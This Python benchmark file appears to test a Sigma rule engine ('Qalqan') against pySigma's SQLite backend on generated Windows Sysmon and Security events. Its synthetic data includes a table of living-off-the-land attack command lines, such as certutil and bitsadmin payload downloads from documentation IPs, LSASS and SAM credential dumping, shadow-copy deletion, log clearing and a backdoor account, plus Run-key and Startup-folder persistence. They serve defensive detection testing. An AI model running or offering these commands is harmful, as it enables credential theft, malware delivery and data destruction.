"""Sigma rules over Windows events: Qalqan's engine against converting each rule to SQL.

(a) 100,000 Sysmon process creation events, generated from a fixed seed (everyday processes of
a Windows fleet with realistic command lines, parents, users, hashes and integrity levels; one
event in a hundred is an attack tool or living-off-the-land command that SigmaHQ rules catch),
matched against every SigmaHQ rule for ``windows/process_creation``: events/s, median of three
runs, with the time to load and compile the rules reported apart.

(b) The baseline is the straightforward method popular tools use: pySigma's SQLite backend (with
the Sysmon pipeline) converts each rule to a query, and every query runs over the events in an
in-memory SQLite table whose columns compare without regard to case (``REGEXP`` is Python's
``re.search``). It runs on the first 10,000 events and its rate is extrapolated. Both methods'
(event, rule) pairs are compared on those events for the rules both can run, and the
disagreements are counted and listed.

(c) Every SigmaHQ Windows rule over 1,000,000 events of several kinds (process creation, file
and registry events, network connections, image loads, DNS queries, process access, Security
logons and process creations), in batches of 100,000, in a process of its own that reports its
peak resident memory (``getrusage``).

The rules are read from the shared data directory beside the project; without it the
benchmark says so and measures nothing.
"""

from __future__ import annotations

import copy
import json
import random
import re
import resource
import sqlite3
import statistics
import subprocess
import sys
import time
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path

import polars as pl

from benchmarks._common import Context, Row
from qalqan.detect.sigma import RuleSet, SigmaEngine, load_rules

__all__ = ["events", "process_creations", "run", "sweep"]

NAME = "sigma_sweep"
SEED = 20_261_201
TARGET_RATIO = 10.0
TARGET_MEMORY_MB = 2048
RULES = Path(__file__).resolve().parents[1] / ".." / "shared" / "data" / "sigma"
_BATCH = 100_000
_SYSMON = "Microsoft-Windows-Sysmon/Operational"
_HOSTS = (*(f"WS-{i:04d}.corp.example" for i in range(40)), "DC-01.corp.example")
_USERS = ("alice", "bob", "carol", "dmitri", "erlan", "farida", "gulnara", "timur")
_SYSTEM = (r"NT AUTHORITY\SYSTEM", r"NT AUTHORITY\LOCAL SERVICE", r"NT AUTHORITY\NETWORK SERVICE")
_S32 = "C:\\Windows\\System32\\"
_PF = "C:\\Program Files\\"
_CMD = _S32 + "cmd.exe"
_PS = _S32 + r"WindowsPowerShell\v1.0\powershell.exe"
_EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
_CHROME = _PF + r"Google\Chrome\Application\chrome.exe"
_OFFICE = _PF + "Microsoft Office\\root\\Office16\\"
_EXPLORER = r"C:\Windows\explorer.exe"
_MS = "Microsoft Corporation"
_WIN = "Microsoft® Windows® Operating System"

# fmt: off
# Everyday processes: image, original name, description, weight, command lines ({u} is a user
# name, {n} a number).
_EVERYDAY: tuple[tuple[str, str, str, int, tuple[str, ...]], ...] = (
    (_S32 + "svchost.exe", "svchost.exe", "Host Process for Windows Services", 30, (
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p",
        r"C:\Windows\System32\svchost.exe -k wsappx -p -s AppXSvc",
        r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{n:x}",
    )),
    (_EDGE, "msedge.exe", "Microsoft Edge", 20, (
        f'"{_EDGE}" --type=renderer --lang=ru --renderer-client-id={{n}}',
        f'"{_EDGE}" --type=utility --utility-sub-type=network.mojom.NetworkService',
    )),
    (_CHROME, "chrome.exe", "Google Chrome", 14, (
        f'"{_CHROME}" --type=renderer --renderer-client-id={{n}} --lang=en-US',
        f'"{_CHROME}" https://intranet.corp.example/',
    )),
    (_S32 + "conhost.exe", "CONHOST.EXE", "Console Window Host", 12, (
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    )),
    (_CMD, "Cmd.Exe", "Windows Command Processor", 8, (
        r'C:\Windows\system32\cmd.exe /c "C:\ProgramData\corp\logon.bat"',
        r"cmd.exe /c echo %DATE% >> C:\Users\{u}\build.log",
        r'C:\Windows\system32\cmd.exe /d /s /c "git rev-parse HEAD"',
        r"C:\Windows\system32\cmd.exe /c dir C:\Users\{u}\Documents",
    )),
    (_PS, "PowerShell.EXE", "Windows PowerShell", 6, (
        r"powershell.exe -NoProfile -File C:\ProgramData\corp\inventory.ps1",
        f'"{_PS}" Get-Service',
        r"powershell.exe -Command Get-ChildItem C:\Users\{u}\Downloads | Measure-Object",
    )),
    (_S32 + "taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", 6, (
        "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
        "taskhostw.exe KEYROAMING",
    )),
    (_S32 + "RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker", 6, (
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    )),
    (_S32 + "backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host", 5, (
        r'"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX9k7yf.mca',
    )),
    (_S32 + "SearchProtocolHost.exe", "SearchProtocolHost.exe", "Windows Search", 5, (
        r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}',
    )),
    (_S32 + r"wbem\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", 4, (
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    )),
    (_S32 + "dllhost.exe", "dllhost.exe", "COM Surrogate", 4, (
        r"C:\Windows\system32\DllHost.exe /Processid:{{3EB3C877-1F16-487C-9050-104DBCD66683}}",
    )),
    (_S32 + "msiexec.exe", "msiexec.exe", "Windows® installer", 2, (
        r"C:\Windows\system32\msiexec.exe /V",
        r'"C:\Windows\System32\msiexec.exe" /i "C:\Users\{u}\Downloads\agent.msi" /qn',
    )),
    (_S32 + "rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", 2, (
        r"rundll32.exe C:\Windows\system32\shell32.dll,SHCreateLocalServerRunDll",
        r'"C:\Windows\system32\rundll32.exe" printui.dll,PrintUIEntry /in /n\\PRN-01\Floor2',
    )),
    (_OFFICE + "OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook", 4, (
        f'"{_OFFICE}OUTLOOK.EXE"',
    )),
    (_OFFICE + "WINWORD.EXE", "WinWord.exe", "Microsoft Word", 3, (
        f'"{_OFFICE}WINWORD.EXE" /n "C:\\Users\\{{u}}\\Documents\\report-{{n}}.docx"',
    )),
    (_PF + r"Git\cmd\git.exe", "git.exe", "Git for Windows", 3, (
        "git.exe fetch --prune origin", "git.exe status --porcelain", "git.exe log -n {n}",
    )),
    (_PF + r"Python311\python.exe", "python.exe", "Python", 2, (
        "python.exe -m pip install --user requests", r"python.exe C:\Users\{u}\tools\report.py",
    )),
    (_S32 + "notepad.exe", "NOTEPAD.EXE", "Notepad", 2, (
        r'"C:\Windows\system32\notepad.exe" C:\Users\{u}\Desktop\notes-{n}.txt',
    )),
    (_S32 + "ipconfig.exe", "ipconfig.exe", "IP Configuration Utility", 1, ("ipconfig /all",)),
    (_S32 + "gpupdate.exe", "GPUpdate.exe", "Group Policy Update Utility", 1, (
        "gpupdate /target:computer /force",
    )),
)
_SVCHOST = _S32 + "svchost.exe"
# Who starts each everyday process (by original name), and whether it runs as a service account.
_STARTED_BY: dict[str, tuple[tuple[str, ...], bool]] = {
    "svchost.exe": ((_S32 + "services.exe",), True),
    "msedge.exe": ((_EXPLORER, _EDGE), False),
    "chrome.exe": ((_EXPLORER, _CHROME), False),
    "CONHOST.EXE": ((_CMD, _PS), False),
    "Cmd.Exe": ((_EXPLORER,), False),
    "PowerShell.EXE": ((_EXPLORER, _CMD), False),
    "taskhostw.exe": ((_SVCHOST,), False),
    "RuntimeBroker.exe": ((_SVCHOST,), False),
    "backgroundTaskHost.exe": ((_SVCHOST,), False),
    "SearchProtocolHost.exe": ((_S32 + "SearchIndexer.exe",), True),
    "Wmiprvse.exe": ((_SVCHOST,), True),
    "dllhost.exe": ((_SVCHOST,), False),
    "msiexec.exe": ((_S32 + "services.exe", _EXPLORER), True),
    "RUNDLL32.EXE": ((_EXPLORER, _SVCHOST), False),
    "Outlook.exe": ((_EXPLORER,), False),
    "WinWord.exe": ((_EXPLORER, _OFFICE + "OUTLOOK.EXE"), False),
    "git.exe": ((_CMD, _PF + r"Microsoft VS Code\Code.exe"), False),
    "python.exe": ((_CMD,), False),
    "NOTEPAD.EXE": ((_EXPLORER,), False),
    "ipconfig.exe": ((_CMD,), False),
    "GPUpdate.exe": ((_CMD,), False),
}
# Attack tools and living-off-the-land commands SigmaHQ rules catch: image, original name,
# command line, parent.
_SUSPICIOUS: tuple[tuple[str, str, str, str], ...] = (
    (_S32 + "whoami.exe", "whoami.exe", "whoami /all", _CMD),
    (_PS, "PowerShell.EXE", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
     _OFFICE + "WINWORD.EXE"),
    (_S32 + "certutil.exe", "CertUtil.exe",
     r"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Users\Public\a.exe", _CMD),
    (_S32 + "rundll32.exe", "RUNDLL32.EXE",
     r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full", _CMD),
    (_S32 + "reg.exe", "reg.exe", r"reg.exe save HKLM\SAM C:\Windows\Temp\sam.save", _CMD),
    (_S32 + "vssadmin.exe", "VSSADMIN.EXE", "vssadmin.exe delete shadows /all /quiet", _CMD),
    (_S32 + "schtasks.exe", "schtasks.exe",
     r'schtasks.exe /create /sc minute /mo 5 /tn Updater /tr "C:\Users\Public\upd.exe" /f', _CMD),
    (_S32 + "mshta.exe", "MSHTA.EXE", "mshta.exe http://203.0.113.5/p.hta", _EXPLORER),
    (_S32 + "bitsadmin.exe", "bitsadmin.exe",
     r"bitsadmin.exe /transfer j /download http://203.0.113.5/y.exe C:\Users\Public\y.exe", _CMD),
    (_S32 + "net.exe", "net.exe", "net.exe user backdoor P@ssw0rd1 /add", _CMD),
    (_S32 + r"wbem\WMIC.exe", "wmic.exe", "wmic.exe shadowcopy delete", _CMD),
    (_S32 + "regsvr32.exe", "REGSVR32.EXE",
     "regsvr32.exe /s /n /u /i:http://203.0.113.5/file.sct scrobj.dll", _CMD),
    (_S32 + "bcdedit.exe", "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No", _CMD),
    (_S32 + "wevtutil.exe", "wevtutil.exe", "wevtutil.exe cl Security", _CMD),
    (_S32 + "nltest.exe", "nltestrk.exe", "nltest.exe /domain_trusts /all_trusts", _CMD),
    (r"C:\Users\Public\procdump64.exe", "procdump",
     r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\l.dmp", _CMD),
)
# fmt: on


class _Fleet:
    """Deterministic values shared by every kind of event: hosts, users, hashes, times."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.record = 0
        self._hashes: dict[str, str] = {}

    def hashes(self, image: str) -> str:
        if image not in self._hashes:
            bits = self.rng.getrandbits
            self._hashes[image] = (
                f"SHA1={bits(160):040X},MD5={bits(128):032X},"
                f"SHA256={bits(256):064X},IMPHASH={bits(128):032X}"
            )
        return self._hashes[image]

    def user(self, service: bool | None = None) -> tuple[str, str]:
        """An account (a service account, a person's, or either) and its integrity level."""
        if service or (service is None and self.rng.random() < 0.35):
            return self.rng.choice(_SYSTEM), "System"
        return f"CORP\\{self.rng.choice(_USERS)}", self.rng.choice(("Medium", "Medium", "High"))

    def common(self, event_id: int, channel: str = _SYSMON) -> dict[str, str]:
        """The fields every event of ``channel`` has."""
        self.record += 1
        second = self.record // 7
        day, hour, minute = 1 + second // 86400 % 28, second // 3600 % 24, second // 60 % 60
        sysmon = channel == _SYSMON
        return {
            "EventID": str(event_id),
            "Channel": channel,
            "Provider_Name": "Microsoft-Windows-" + ("Sysmon" if sysmon else "Security-Auditing"),
            "Computer": self.rng.choice(_HOSTS),
            "EventRecordID": str(self.record),
            "UtcTime": f"2026-03-{day:02d} {hour:02d}:{minute:02d}:{second % 60:02d}.000",
            "ProcessGuid": f"{{7A1C{self.rng.getrandbits(32):08X}-0000-{self.record:012X}}}",
            "ProcessId": str(self.rng.randrange(400, 60_000)),
        }


def _process_creation(fleet: _Fleet) -> dict[str, str]:
    rng = fleet.rng
    event = fleet.common(1)
    if rng.random() < 0.01:
        image, original, command, parent = rng.choice(_SUSPICIOUS)
        description, product, company = original, _WIN, _MS
        user, integrity = fleet.user()
    else:
        weights = [e[3] for e in _EVERYDAY]
        image, original, description, _, commands = rng.choices(_EVERYDAY, weights)[0]
        command = rng.choice(commands).format(u=rng.choice(_USERS), n=rng.randrange(1, 40_000))
        parents, service = _STARTED_BY[original]
        parent = rng.choice(parents)
        user, integrity = fleet.user(service)
        product = description if image.startswith(_PF) else _WIN
        company = _MS if "Microsoft" in image or image.startswith(_S32) else "Vendor Inc."
    event.update(
        Image=image,
        CommandLine=command,
        OriginalFileName=original,
        Description=description,
        Product=product,
        Company=company,
        FileVersion=f"10.0.{rng.choice((19041, 22621, 26100))}.{rng.randrange(1, 5000)}",
        CurrentDirectory=rng.choice((_S32, f"C:\\Users\\{rng.choice(_USERS)}\\", "C:\\Windows\\")),
        User=user,
        LogonId=f"0x{rng.getrandbits(24):x}",
        TerminalSessionId=str(rng.randrange(0, 3)),
        IntegrityLevel=integrity,
        Hashes=fleet.hashes(image),
        ParentProcessGuid=f"{{7A1C{rng.getrandbits(32):08X}-0000-000000000000}}",
        ParentProcessId=str(rng.randrange(400, 60_000)),
        ParentImage=parent,
        ParentCommandLine=parent if rng.random() < 0.5 else f'"{parent}" /svc',
        ParentUser=user,
    )
    return event


def _file_event(fleet: _Fleet) -> dict[str, str]:
    rng = fleet.rng
    event = fleet.common(11)
    home = f"C:\\Users\\{rng.choice(_USERS)}\\"
    target = rng.choice((
        f"{home}AppData\\Local\\Temp\\tmp{rng.getrandbits(16):04X}.tmp",
        f"{home}Downloads\\invoice-{rng.randrange(10_000)}.pdf",
        f"C:\\Windows\\Prefetch\\CHROME.EXE-{rng.getrandbits(32):08X}.pf",
        f"{home}AppData\\Local\\Microsoft\\Edge\\User Data\\Cache\\f_{rng.randrange(99_999)}",
    ))  # fmt: skip
    if rng.random() < 0.005:
        target = home + r"AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\upd.vbs"
    image = rng.choice((_S32 + "svchost.exe", _CHROME, _EXPLORER, _OFFICE + "WINWORD.EXE"))
    event.update(Image=image, TargetFilename=target, CreationUtcTime=event["UtcTime"])
    event["User"] = fleet.user()[0]
    return event


def _registry_set(fleet: _Fleet) -> dict[str, str]:
    rng = fleet.rng
    event = fleet.common(13)
    key = rng.choice((
        r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1-2-3-1001\{n}",
        r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\Recent\{n}",
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated",
    )).format(n=rng.randrange(100))  # fmt: skip
    details = rng.choice(
        ("DWORD (0x00000001)", "Binary Data", f"QWORD (0x{rng.getrandbits(32):x})")
    )
    if rng.random() < 0.005:
        key = r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\Updater"
        details = r"C:\Users\Public\upd.exe"
    event.update(EventType="SetValue", Image=rng.choice((_S32 + "svchost.exe", _EXPLORER)))
    event.update(TargetObject=key, Details=details, User=fleet.user()[0])
    return event


def _network_connection(fleet: _Fleet) -> dict[str, str]:
    rng = fleet.rng
    event = fleet.common(3)
    event.update(
        Image=rng.choice((_CHROME, _S32 + "svchost.exe", _OFFICE + "OUTLOOK.EXE")),
        User=fleet.user()[0],
        Protocol="tcp",
        Initiated="true",
        SourceIsIpv6="false",
        SourceIp=f"10.20.{rng.randrange(256)}.{rng.randrange(1, 255)}",
        SourceHostname=rng.choice(_HOSTS),
        SourcePort=str(rng.randrange(49152, 65535)),
        DestinationIsIpv6="false",
        DestinationIp=f"{rng.choice((13, 20, 40, 52, 104, 142))}.{rng.randrange(256)}"
        f".{rng.randrange(256)}.{rng.randrange(1, 255)}",
        DestinationHostname=rng.choice(("login.microsoftonline.com", "www.google.com", "")),
        DestinationPort=rng.choice(("443", "443", "80")),
        DestinationPortName=rng.choice(("https", "http")),
    )
    return event


def _image_load(fleet: _Fleet) -> dict[str, str]:
    rng = fleet.rng
    event = fleet.common(7)
    dll = rng.choice(("ntdll.dll", "kernel32.dll", "user32.dll", "combase.dll", "wininet.dll"))
    event.update(
        Image=rng.choice((_S32 + "svchost.exe", _EXPLORER, _S32 + "RuntimeBroker.exe")),
        ImageLoaded=_S32 + dll,
        OriginalFileName=dll,
        Description=dll,
        Product=_WIN,
        Company=_MS,
        Hashes=fleet.hashes(dll),
        Signed="true",
        Signature="Microsoft Windows",
        SignatureStatus="Valid",
        User=fleet.user()[0],
    )
    return event


def _dns_query(fleet: _Fleet) -> dict[str, str]:
    rng = fleet.rng
    event = fleet.common(22)
    names = ("www.google.com", "login.microsoftonline.com", "intranet.corp.example")
    event.update(
        Image=rng.choice((_CHROME, _S32 + "svchost.exe")),
        QueryName=rng.choice((*names, f"cdn{rng.randrange(50)}.contoso-cdn.net")),
        QueryStatus="0",
        QueryResults="::ffff:142.250.74.100;",
        User=fleet.user()[0],
    )
    return event


def _process_access(fleet: _Fleet) -> dict[str, str]:
    rng = fleet.rng
    event = fleet.common(10)
    event.update(
        SourceImage=rng.choice((_S32 + "svchost.exe", _PF + r"Windows Defender\MsMpEng.exe")),
        TargetImage=rng.choice((_S32 + "lsass.exe", _S32 + "csrss.exe", _EXPLORER)),
        GrantedAccess=rng.choice(("0x1000", "0x1400", "0x101000")),
        CallTrace=r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e",
        SourceUser=fleet.user()[0],
        TargetUser=_SYSTEM[0],
    )
    return event


def _security(fleet: _Fleet) -> dict[str, str]:
    rng = fleet.rng
    if rng.random() < 0.5:
        event = fleet.common(4624, "Security")
        event.update(
            SubjectUserSid="S-1-5-18",
            SubjectUserName=rng.choice(_HOSTS)[:7] + "$",
            TargetUserName=rng.choice(_USERS),
            TargetDomainName="CORP",
            LogonType=rng.choice(("2", "3", "3", "5", "10")),
            LogonProcessName="User32",
            AuthenticationPackageName=rng.choice(("Negotiate", "Kerberos", "NTLM")),
            IpAddress=f"10.20.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            IpPort="0",
            WorkstationName=rng.choice(_HOSTS)[:7],
        )
        return event
    created = _process_creation(fleet)
    event = fleet.common(4688, "Security")
    event.update(
        NewProcessName=created["Image"],
        CommandLine=created["CommandLine"],
        ParentProcessName=created["ParentImage"],
        SubjectUserName=rng.choice(_USERS),
        SubjectDomainName="CORP",
        SubjectLogonId=created["LogonId"],
        MandatoryLabel="S-1-16-8192",
        TokenElevationType="%%1938",
        NewProcessId="0x1a2c",
    )
    return event


_KINDS: tuple[tuple[Callable[[_Fleet], dict[str, str]], int], ...] = (
    (_process_creation, 35),
    (_file_event, 15),
    (_registry_set, 15),
    (_network_connection, 10),
    (_image_load, 10),
    (_dns_query, 7),
    (_process_access, 3),
    (_security, 5),
)


def _frame(rows: list[dict[str, str]], first_line: int) -> pl.DataFrame:
    names = sorted({k for row in rows for k in row})
    columns = {name: [row.get(name) for row in rows] for name in names}
    frame = pl.DataFrame(columns, schema=dict.fromkeys(names, pl.String))
    return frame.with_columns(
        pl.lit("sysmon.evtx").alias("@file"),
        pl.int_range(first_line, first_line + len(rows), dtype=pl.Int64).alias("@line"),
    )


def process_creations(count: int, seed: int = SEED) -> pl.DataFrame:
    """``count`` Sysmon process creation events; the same seed gives the same events."""
    fleet = _Fleet(random.Random(seed))
    return _frame([_process_creation(fleet) for _ in range(count)], 1)


def events(count: int, batch: int = _BATCH, seed: int = SEED) -> Iterator[pl.DataFrame]:
    """``count`` events of every kind, in frames of ``batch`` rows."""
    fleet = _Fleet(random.Random(seed))
    makers, weights = zip(*_KINDS, strict=True)
    for start in range(0, count, batch):
        size = min(batch, count - start)
        chosen = fleet.rng.choices(makers, weights, k=size)
        yield _frame([make(fleet) for make in chosen], start + 1)


def _windows_rules(categories: tuple[str, ...] | None) -> tuple[SigmaEngine, RuleSet, float]:
    """Every SigmaHQ Windows rule (of these categories), loaded and compiled; and the seconds
    that took."""
    started = time.perf_counter()
    ruleset = load_rules(sorted(RULES.glob("rules*")))
    ruleset.rules = [
        r
        for r in ruleset.rules
        if r.info.logsource.product == "windows"
        and (categories is None or r.info.logsource.category in categories)
    ]
    engine = SigmaEngine.from_ruleset(ruleset)
    return engine, ruleset, time.perf_counter() - started


_PATTERNS: dict[str, re.Pattern[str]] = {}


def _regexp(pattern: str, value: str | None) -> bool:
    """SQLite's REGEXP, as Zircolite defines it: Python's ``re.search``."""
    if value is None:
        return False
    if pattern not in _PATTERNS:
        _PATTERNS[pattern] = re.compile(pattern)
    return _PATTERNS[pattern].search(value) is not None


def _quote(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def _sql(ruleset: RuleSet, ids: set[str]) -> tuple[dict[str, list[str]], list[str]]:
    """Each rule converted by pySigma's SQLite backend with the Sysmon pipeline, by id, and the
    reasons of the rules it refuses."""
    from sigma.backends.sqlite import sqliteBackend
    from sigma.pipelines.sysmon import sysmon_pipeline

    backend = sqliteBackend(sysmon_pipeline())
    queries = {}
    refused = []
    for loaded in ruleset.rules:
        if loaded.info.id not in ids:
            continue
        try:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                converted = backend.convert_rule(copy.deepcopy(loaded.rule))
        # The backend refuses what it cannot express (keywords, ...) with assorted exceptions.
        except Exception as exc:
            refused.append(f"{loaded.info.title}: {exc}")
            continue
        queries[loaded.info.id] = [
            q.replace("SELECT * FROM", "SELECT rowid FROM", 1) for q in converted
        ]
    return queries, refused


def _baseline(
    queries: dict[str, list[str]], fields: set[str], frame: pl.DataFrame
) -> tuple[float, set[tuple[int, str]], set[str]]:
    """Seconds to run every query over ``frame`` in an in-memory SQLite table, the (row, rule)
    pairs found and the rules whose queries ran."""
    columns = sorted(f for f in fields | set(frame.columns) if not f.startswith("@"))
    db = sqlite3.connect(":memory:")
    db.create_function("REGEXP", 2, _regexp, deterministic=True)
    db.execute(
        f"CREATE TABLE logs ({', '.join(f'{_quote(c)} TEXT COLLATE NOCASE' for c in columns)})"
    )
    present = [c for c in columns if c in frame.columns]
    # The column names are quoted identifiers; the values are parameters.
    insert = f"INSERT INTO logs ({', '.join(map(_quote, present))}) VALUES "  # noqa: S608
    db.executemany(insert + f"({', '.join('?' * len(present))})", frame.select(present).iter_rows())
    pairs: set[tuple[int, str]] = set()
    ran = set()
    started = time.perf_counter()
    for rule_id, sql in queries.items():
        try:
            found = [(rowid - 1, rule_id) for query in sql for (rowid,) in db.execute(query)]
        except sqlite3.Error as exc:
            print(f"    the baseline cannot run rule {rule_id}: {exc}")
        else:
            pairs.update(found)
            ran.add(rule_id)
    return time.perf_counter() - started, pairs, ran


def sweep(count: int) -> dict[str, float]:
    """Every Windows rule over ``count`` generated events in batches; run in a process of its
    own so that its peak memory is its own."""
    engine, _, compile_s = _windows_rules(None)
    batches = events(count)
    generate_s = match_s = 0.0
    hits = 0
    while True:
        started = time.perf_counter()
        frame = next(batches, None)
        generate_s += time.perf_counter() - started
        if frame is None:
            break
        started = time.perf_counter()
        hits += engine.match(frame).height
        match_s += time.perf_counter() - started
    return {
        "rules": len(engine.rules),
        "compile_s": compile_s,
        "match_s": match_s,
        "generate_s": generate_s,
        "hits": hits,
        "peak_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
    }


def _median_rate(
    engine: SigmaEngine, frame: pl.DataFrame, runs: int = 3
) -> tuple[float, pl.DataFrame]:
    seconds = []
    hits = pl.DataFrame()
    for _ in range(runs):
        started = time.perf_counter()
        hits = engine.match(frame)
        seconds.append(time.perf_counter() - started)
    return frame.height / statistics.median(seconds), hits


def run(ctx: Context) -> list[Row]:
    """(a) and (b) on 100,000 process creations, then (c) in a child process."""
    if not RULES.is_dir():
        print(f"  skipped: no SigmaHQ rules in {RULES.name} beside the project")
        return []
    size = ctx.size(100_000, 5_000)
    print(f"  generating {size:,} process creation events (seed {SEED}) ...", flush=True)
    frame = process_creations(size)
    engine, ruleset, compile_s = _windows_rules(("process_creation",))
    print(
        f"  {len(engine.rules):,} process_creation rules loaded and compiled in {compile_s:.1f} s "
        f"({len(engine.skipped):,} skipped)",
        flush=True,
    )
    rate, hits = _median_rate(engine, frame)
    print(f"  qalqan  : {rate:,.0f} events/s, {hits.height:,} hits", flush=True)

    subset = frame.head(ctx.size(10_000, 1_000))
    queries, refused = _sql(ruleset, set(engine.rules))
    print(f"  pySigma's SQLite backend refuses {len(refused)} rules: {refused}", flush=True)
    fields = {f for r in engine.rules for f in engine.compiled(r).fields}
    seconds, expected, ran = _baseline(queries, fields, subset)
    base_rate = subset.height / seconds
    print(
        f"  baseline: {len(ran):,} rules as SQLite queries over the first {subset.height:,} "
        f"events in {seconds:.1f} s: {base_rate:,.0f} events/s (extrapolated: "
        f"{size / base_rate:,.0f} s for {size:,})",
        flush=True,
    )
    ours = {(row, rule) for row, rule in engine.match(subset).iter_rows() if rule in ran}
    print(
        f"  agreement on {subset.height:,} events, {len(ran):,} rules both run: "
        f"{len(ours & expected):,} pairs found by both, {len(ours - expected):,} only by qalqan, "
        f"{len(expected - ours):,} only by the baseline"
    )
    for row, rule in sorted(ours ^ expected)[:10]:
        side = "qalqan" if (row, rule) in ours else "baseline"
        print(f"    only {side}: row {row} rule {rule} {engine.rules[rule].title!r}")

    ratio = rate / base_rate
    rows = [
        Row(
            NAME,
            f"process_creation {size // 1000}k",
            f"{rate:,.0f} ev/s",
            f"{base_rate:,.0f} ev/s",
            ratio,
            f">= {TARGET_RATIO:.0f}x",
            ratio >= TARGET_RATIO,
        )
    ]
    rows.append(_sweep_row(ctx.size(1_000_000, 50_000)))
    return rows


def _sweep_row(count: int) -> Row:
    done = subprocess.run(
        [sys.executable, "-m", "benchmarks.sigma_sweep", str(count)],
        check=True,
        capture_output=True,
        text=True,
        cwd=Path(__file__).resolve().parents[1],
    )
    figures = json.loads(done.stdout.strip().splitlines()[-1])
    rate = count / figures["match_s"]
    print(
        f"  sweep   : {figures['rules']:,.0f} Windows rules (compiled in "
        f"{figures['compile_s']:.1f} s) over {count:,} events of {len(_KINDS)} kinds in batches "
        f"of {_BATCH:,}: {figures['match_s']:.1f} s ({rate:,.0f} events/s), "
        f"{figures['hits']:,.0f} hits, peak RSS {figures['peak_mb']:,.0f} MB "
        f"(generating the events took {figures['generate_s']:.0f} s more)"
    )
    return Row(
        NAME,
        f"all windows rules {count // 1000}k",
        f"{figures['match_s']:.1f} s, {figures['peak_mb']:,.0f} MB",
        "-",
        None,
        f"< {TARGET_MEMORY_MB:,} MB",
        figures["peak_mb"] < TARGET_MEMORY_MB,
    )


if __name__ == "__main__":
    print(json.dumps(sweep(int(sys.argv[1]))))
